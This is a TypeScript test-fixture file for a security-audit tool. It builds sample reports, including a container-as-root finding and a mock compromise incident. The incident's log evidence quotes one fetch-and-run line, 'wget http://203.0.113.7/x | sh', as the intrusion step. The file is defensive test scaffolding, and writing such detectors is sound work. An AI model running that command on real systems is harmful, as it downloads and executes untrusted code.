import { type QuestionId, questionIds } from '../core/question.js';
import { exitCodeOf, type Incident, type Report, type Verdict } from '../core/report.js';
import type { Result } from '../core/result.js';
import { blankIncident, blankResult } from '../verdict/testing.js';

const at = new Date('2025-12-13T08:38:10Z');

/** A verdict, for tests. */
export function verdictOf(change: Partial<Verdict> = {}): Verdict {
  const status = change.status ?? 'SAFE';
  return {
    status,
    confidence: null,
    exitCode: exitCodeOf(status),
    summary: 'All is well.',
    caps: [],
    toDecide: [],
    notes: [],
    ...change,
  };
}

/** A quiet report with nine good answers, for tests; `change` says what differs. */
export function reportOf(change: Partial<Report> = {}): Report {
  return {
    format: 'candor-report/1',
    id: '2025-12-13T083810Z-web-2',
    previous: null,
    candorVersion: '0.1.0',
    capturedAt: at,
    window: {
      requestedSince: new Date('2025-12-12T08:38:10Z'),
      effectiveSince: new Date('2025-12-12T22:58:06Z'),
      because: 'the log begins then',
    },
    host: { name: 'web-2', os: 'Debian 12', kernel: '6.1', cpus: 4, memoryBytes: 8_000_000_000 },
    collector: { name: 'candor', version: '0.1.0', mode: 'local', uid: 0 },
    scope: ['project:payload'],
    verdict: verdictOf(),
    rules: [],
    questions: questionIds.map((id) => ({ id, answer: 'good' as const, because: [] })),
    results: [blankResult()],
    incidents: [],
    exposure: [],
    diffs: [],
    logs: [],
    recommendations: [],
    questionsAndRisks: [],
    dismissals: [],
    amendments: [],
    ledger: [],
    coverage: {
      requiredAnswered: 1,
      requiredTotal: 1,
      artifacts: [{ id: 'docker.diff', subject: 'container:web-1', status: 'ok', detail: null, capturedAt: at }],
      warnings: [],
      advisoryDate: new Date('2025-12-11T00:00:00Z'),
    },
    nextReview: new Date('2025-12-14T08:38:10Z'),
    ...change,
  };
}

/** A failed result with evidence and a remedy, for tests. */
export function failOf(change: Partial<Result> = {}): Result {
  return blankResult({
    check: 'CTR-03',
    subject: 'container:web-1',
    state: 'fail',
    severity: 'high',
    questions: ['Q7'],
    title: 'A process in a container runs as root',
    location: 'docker-compose.yml:7',
    what: 'no user is set',
    whyItMatters: 'Root inside is a step from root outside.',
    evidence: [
      { artifact: 'docker.inspect', subject: 'host', path: 'artifacts/05.json', line: 2, excerpt: '"User": ""' },
    ],
    verifyByHand: 'docker exec web-1 id',
    remediation: { text: 'Set a user in the service.', commands: ['docker compose up -d'], diff: null },
    fingerprint: 'aaaa',
    references: ['CIS Docker 4.1'],
    ...change,
  });
}

/** An incident with every field filled, for tests. */
export function incidentOf(change: Partial<Incident> = {}): Incident {
  const evidence = { artifact: 'docker.logs', subject: 'container:web-1', path: 'artifacts/09.txt', line: 9 };
  return {
    ...blankIncident(),
    id: 'INC-2025-0001',
    title: 'A command from a request ran in web-1',
    firstSeen: new Date('2025-12-12T15:51:17Z'),
    lastSeen: new Date('2025-12-13T08:18:21Z'),
    calls: 3,
    waves: 3,
    rawLines: 24_186,
    executed: 'yes',
    subjects: ['container:web-1'],
    hostPids: [659_168],
    stages: [
      {
        technique: 'T1190',
        name: 'Exploit Public-Facing Application',
        at: new Date('2025-12-12T15:51:17Z'),
        evidence: [{ ...evidence, excerpt: 'wget http://203.0.113.7/x | sh' }],
      },
    ],
    rootCause: {
      advisory: 'CVE-2025-55182',
      package: 'next',
      version: '15.3.2',
      confidence: 'inferred',
      because: ['requests reach it'],
    },
    indicators: [{ type: 'ipv4', value: '203.0.113.7', role: 'payload-server' }],
    secretsExposed: ['PAYLOAD_SECRET'],
    wouldDisprove: 'a source file that names the address',
    questions: ['Q3', 'Q4'],
    evidence: [evidence],
    ...change,
  };
}

/** A broken-into report with a finding, an unknown, a cap, a note and an amendment, for tests. */
export function brokenIntoReport(): Report {
  const bad: readonly QuestionId[] = ['Q3', 'Q4', 'Q7'];
  return reportOf({
    verdict: verdictOf({
      status: 'COMPROMISED',
      confidence: 'confirmed',
      exitCode: 4,
      summary: 'Broken into: a command from a request ran in web-1.',
      notes: ['12 refused probes'],
      caps: [{ rule: 'VULN_VERSION', cap: 'AT RISK', because: 'next 15.3.2 is running', binding: false }],
      toDecide: [{ text: 'Ask the engine', commands: ['docker info'], settles: ['CTR-30@host'] }],
    }),
    questions: questionIds.map((id) =>
      id === 'Q2'
        ? { id, answer: 'unknown', because: ['CTR-30@host'] }
        : bad.includes(id)
          ? { id, answer: 'bad', because: id === 'Q7' ? ['CTR-03@container:web-1'] : ['INC-2025-0001'] }
          : { id, answer: 'good', because: [] },
    ),
    results: [
      failOf(),
      blankResult(),
      blankResult({
        check: 'CTR-30',
        state: 'unknown',
        reason: 'not-collected',
        detail: 'docker info was not collected',
        questions: ['Q2'],
        evidence: [],
        fingerprint: 'bbbb',
      }),
    ],
    incidents: [incidentOf()],
    exposure: [
      { from: 'internet', to: 'host:nginx:443/tcp', path: ['0.0.0.0:443', 'nginx'], blockedBy: null },
      { from: 'internet', to: 'container:web-1:3000/tcp', path: ['0.0.0.0:3000'], blockedBy: 'DOCKER-USER' },
    ],
    diffs: [{ file: 'docker-compose.yml', patch: '--- a\n+++ b\n@@ -1 +1 @@\n-a\n+b', fixes: ['CTR-03'] }],
    logs: [{ artifact: 'docker.logs', subject: 'container:web-1', path: 'artifacts/09.txt', lines: ['9: wget'] }],
    recommendations: [{ priority: 1, text: 'Upgrade next.', commands: ['npm i next'], fixes: ['NXT-02@host'] }],
    questionsAndRisks: [{ q: 'Ask the engine', risk: '1 unanswered: CTR-30@host', recommendation: 'docker info' }],
    amendments: [
      {
        report: 'a.md',
        at,
        claim: 'false positives',
        state: 'unsupported-claim',
        refusedBy: ['FP_NEEDS_PRODUCER'],
        wouldAccept: 'the producer by name',
        evidence: [],
      },
    ],
    coverage: { ...reportOf().coverage, requiredAnswered: 2, requiredTotal: 3 },
  });
}
